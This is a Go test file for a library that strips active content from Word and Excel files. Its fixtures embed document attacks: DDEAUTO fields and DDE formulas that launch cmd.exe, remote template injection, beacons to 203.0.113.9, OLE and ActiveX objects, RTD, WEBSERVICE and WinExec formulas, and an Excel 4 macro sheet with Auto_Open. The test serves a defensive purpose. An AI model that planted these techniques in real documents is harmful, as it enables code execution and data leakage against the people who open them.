package office

import (
	"bytes"
	"context"
	"strings"
	"testing"
)

// TestDisarmAttacks applies one attack at a time to an otherwise clean
// document and checks that the attack is gone (by the test's own walker
// and by VerifyOOXML), that it was counted, and that the document's text
// is still there.
func TestDisarmAttacks(t *testing.T) {
	keep := "お世話になっております。"
	body := func(s string) string { return para(keep) + s + para("令和7年度 予算書") }
	settingsRel := relSpec{"rIdSettings", relSettings, "settings.xml", ""}
	settingsCT := [2]string{"/word/settings.xml", ctSettings}
	for _, tc := range []struct {
		name    string
		in      []byte
		removed string
		want    []string // text that must survive
	}{
		{"MacroProjectDOCM", docxWith(t, ctWordMacro, body(""), []relSpec{{"rIdVBA", relVBA, "vbaProject.bin", ""}},
			[]entry{{"word/vbaProject.bin", "\xd0\xcf\x11\xe0 Sub AutoOpen()"}}), "macro", nil},
		{"RemoteTemplateInjection", docxWith(t, ctWordMain, body(""), []relSpec{settingsRel}, []entry{
			{"word/settings.xml", xmlDecl + `<w:settings xmlns:w="` + nsW + `" xmlns:r="` + nsR + `"><w:attachedTemplate r:id="rId1"/></w:settings>`},
			{"word/_rels/settings.xml.rels", relsXML(relSpec{"rId1", relTemplate, "https://203.0.113.9/t.dotm", "External"})},
		}, settingsCT), "template", nil},
		{"DDEAUTOField", docxWith(t, ctWordMain, body(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO "C:\\Programs\\Microsoft\\Office\\MSWord.exe\\..\\..\\..\\..\\windows\\system32\\cmd.exe" "/c calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`), nil, nil), "dde", []string{"結果"}},
		{"DDEInFldSimple", docxWith(t, ctWordMain, body(`<w:p><w:fldSimple w:instr=" DDE cmd.exe &quot;/c calc&quot; "><w:r><w:t>結果</w:t></w:r></w:fldSimple></w:p>`), nil, nil), "dde", []string{"結果"}},
		{"IncludePictureBeacon", docxWith(t, ctWordMain, body(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://203.0.113.9/t.png" \d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`), nil, nil), "field", nil},
		{"DDEInHeader", docxWith(t, ctWordMain, body(`<w:sectPr><w:headerReference w:type="default" r:id="rIdH"/></w:sectPr>`),
			[]relSpec{{"rIdH", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/header", "header1.xml", ""}},
			[]entry{{"word/header1.xml", xmlDecl + `<w:hdr xmlns:w="` + nsW + `"><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>ヘッダー</w:t></w:r></w:p></w:hdr>`}},
			[2]string{"/word/header1.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"}), "dde", []string{"ヘッダー"}},
		{"OLEEmbeddedPackage", docxWith(t, ctWordMain, body(`<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdOle"/></w:object></w:r></w:p>`),
			[]relSpec{{"rIdOle", relOLE, "embeddings/oleObject1.bin", ""}}, []entry{{"word/embeddings/oleObject1.bin", "\xd0\xcf\x11\xe0 x.exe"}}), "ole", nil},
		{"OLELinkedURLMoniker", docxWith(t, ctWordMain, body(`<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Word.Document.8" r:id="rIdOle" UpdateMode="OnCall"/></w:object></w:r></w:p>`),
			[]relSpec{{"rIdOle", relOLE, "http://203.0.113.9/x.rtf", "External"}}, nil), "ole", nil},
		{"ActiveXControl", docxWith(t, ctWordMain, body(`<w:p><w:r><w:object><w:control r:id="rIdX" w:name="CommandButton1"/></w:object></w:r><w:r><w:pict><w:control r:id="rIdX" w:name="B2"/></w:pict></w:r></w:p>`),
			[]relSpec{{"rIdX", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/control", "activeX/activeX1.xml", ""}},
			[]entry{{"word/activeX/activeX1.xml", xmlDecl + `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>`}}), "activex", nil},
		{"ExternalHyperlink", docxWith(t, ctWordMain, body(`<w:p><w:hyperlink r:id="rIdL"><w:r><w:t>こちら</w:t></w:r></w:hyperlink></w:p>`),
			[]relSpec{{"rIdL", relHyper, "http://203.0.113.9/login", "External"}}, nil), "hyperlink", []string{"こちら"}},
		{"ExternalLinkedPicture", docxWith(t, ctWordMain, body(`<w:p><w:r><w:drawing><wp:inline><wp:extent cx="1" cy="1"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdP"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`),
			[]relSpec{{"rIdP", relImage, "http://203.0.113.9/beacon.png", "External"}}, nil), "external-link", nil},
		{"CustomUI2006", customUIDoc(t, relUI2006, "customUI/customUI.xml"), "customui", nil},
		{"CustomUI2007", customUIDoc(t, relUI2007, "customUI/customUI14.xml"), "customui", nil},
		{"AltChunkHTML", docxWith(t, ctWordMain, body(`<w:altChunk r:id="rIdA"/>`),
			[]relSpec{{"rIdA", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk", "afchunk.mht", ""}},
			[]entry{{"word/afchunk.mht", "<script>alert(1)</script>"}}), "embedded", nil},
		{"MailMergeDataSource", docxWith(t, ctWordMain, body(""), []relSpec{settingsRel}, []entry{
			{"word/settings.xml", xmlDecl + `<w:settings xmlns:w="` + nsW + `"><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odbc"/><w:connectString w:val="DSN=x;SERVER=203.0.113.9"/></w:mailMerge></w:settings>`},
		}, settingsCT), "mail-merge", nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out, res := disarm(t, tc.in, Options{})
			if bytes.Equal(out, tc.in) {
				t.Fatal("output is the input's bytes")
			}
			if f := forbiddenIn(t, out); len(f) > 0 {
				t.Errorf("left: %v", f)
			}
			if err := VerifyOOXML(context.Background(), bytes.NewReader(out), int64(len(out))); err != nil {
				t.Errorf("VerifyOOXML: %v", err)
			}
			if res.Removed[tc.removed] == 0 {
				t.Errorf("removed %v, want %s counted", res.Removed, tc.removed)
			}
			text := strings.Join(extractText(t, out), "|")
			for _, w := range append([]string{keep, "令和7年度 予算書"}, tc.want...) {
				if !strings.Contains(text, w) {
					t.Errorf("text %q lacks %q", text, w)
				}
			}
		})
	}
}

func customUIDoc(t *testing.T, typ, target string) []byte {
	t.Helper()
	b := docxWith(t, ctWordMain, para("お世話になっております。")+para("令和7年度 予算書"), nil,
		[]entry{{target, xmlDecl + `<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Evil"/>`}})
	return patchZip(t, b, "_rels/.rels", relsXML(relSpec{"rId1", relDoc, "word/document.xml", ""}, relSpec{"rId9", typ, target, ""}))
}

// TestDisarmSpreadsheetAttacks: formulas and shapes that reach out or
// run code lose the formula (the cached value stays) or the assignment.
func TestDisarmSpreadsheetAttacks(t *testing.T) {
	for _, tc := range []struct {
		name, row, removed string
	}{
		{"DDEFormula", `<row r="9"><c r="A9"><f>cmd|' /C calc'!A0</f><v>0</v></c></row>`, "dde"},
		{"DDEFormulaMSExcel", `<row r="9"><c r="A9"><f>MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc'!''</f><v>0</v></c></row>`, "dde"},
		{"RTDComServer", `<row r="9"><c r="A9"><f>RTD("Evil.Server",,"x")</f><v>0</v></c></row>`, "external-link"},
		{"WebServiceBeacon", `<row r="9"><c r="A9"><f>_xlfn.WEBSERVICE("http://203.0.113.9/?"&amp;A1)</f><v>0</v></c></row>`, "external-link"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			in := xlsxWith(t, ctWorkbook, tc.row, "", nil, nil)
			out, res := disarm(t, in, Options{})
			if err := VerifyOOXML(context.Background(), bytes.NewReader(out), int64(len(out))); err != nil {
				t.Errorf("VerifyOOXML: %v", err)
			}
			if res.Removed[tc.removed] == 0 {
				t.Errorf("removed %v, want %s", res.Removed, tc.removed)
			}
			sheet := partText(t, out, "xl/worksheets/sheet1.xml")
			if !strings.Contains(sheet, `<c r="A9"><v>0</v></c>`) || !strings.Contains(sheet, "<f>SUM(C3:C4)</f>") {
				t.Errorf("sheet: %s", sheet)
			}
			if err := VerifyOOXML(context.Background(), bytes.NewReader(in), int64(len(in))); err == nil {
				t.Error("VerifyOOXML accepted the attack itself")
			}
		})
	}
}

func TestFormulaVerdict(t *testing.T) {
	for f, want := range map[string]string{
		`SUM(A1:A3)`:    "",
		`"RTD(x)"&A1`:   "",
		`MYRTD(1)`:      "",
		`rtd("a",,"b")`: "external-link",
		`IF(A1,CALL("kernel32","WinExec","JCJ","calc",0),0)`: "external-link",
		`cmd|'/c calc'!A0`: "dde",
	} {
		if got := formulaVerdict(f); got != want {
			t.Errorf("formulaVerdict(%q) = %q, want %q", f, got, want)
		}
		bad := vDDEFormula(f) || vRiskyFunc.MatchString(vUnquote(f))
		if bad != (want != "") {
			t.Errorf("verifier on %q: %v", f, bad)
		}
	}
}

// TestDisarmExcel4MacroSheet: a hidden Excel 4.0 macro sheet with an
// Auto_Open name goes, and the sheet positions after it are renumbered.
func TestDisarmExcel4MacroSheet(t *testing.T) {
	wbSheets := `<bookViews><workbookView activeTab="2" firstSheet="0"/></bookViews>`
	in := xlsxWith(t, ctWorkbookMacro, "", "", []relSpec{
		{"rIdM", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", ""},
		{"rId9", relSheet, "worksheets/sheet2.xml", ""},
	}, []entry{
		{"xl/macrosheets/sheet1.xml", xmlDecl + `<xm:macrosheet xmlns="` + nsX + `" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>`},
		{"xl/worksheets/sheet2.xml", xmlDecl + `<worksheet xmlns="` + nsX + `"><sheetData/></worksheet>`},
	}, [2]string{"/xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"}, [2]string{"/xl/worksheets/sheet2.xml", ctWorksheet})
	in = patchZip(t, in, "xl/workbook.xml", xmlDecl+`<workbook xmlns="`+nsX+`" xmlns:r="`+nsR+`">`+wbSheets+
		`<sheets><sheet name="予算" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" state="hidden" r:id="rIdM"/><sheet name="集計" sheetId="3" r:id="rId9"/></sheets>`+
		`<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName><definedName name="_xlnm.Print_Area" localSheetId="2">集計!$A$1:$C$9</definedName><definedName name="x" localSheetId="1">Macro1!$A$1</definedName></definedNames></workbook>`)
	out, res := disarm(t, in, Options{})
	if err := VerifyOOXML(context.Background(), bytes.NewReader(out), int64(len(out))); err != nil {
		t.Errorf("VerifyOOXML: %v", err)
	}
	if res.Removed["macro"] < 2 || hasPart(t, out, "xl/macrosheets/sheet1.xml") {
		t.Errorf("removed %v", res.Removed)
	}
	wb := partText(t, out, "xl/workbook.xml")
	for _, want := range []string{`activeTab="1"`, `<definedName name="_xlnm.Print_Area" localSheetId="1">`, `name="集計"`} {
		if !strings.Contains(wb, want) {
			t.Errorf("workbook.xml lacks %q: %s", want, wb)
		}
	}
	if strings.Contains(wb, "Macro1") {
		t.Errorf("workbook.xml still names the macro sheet: %s", wb)
	}
}
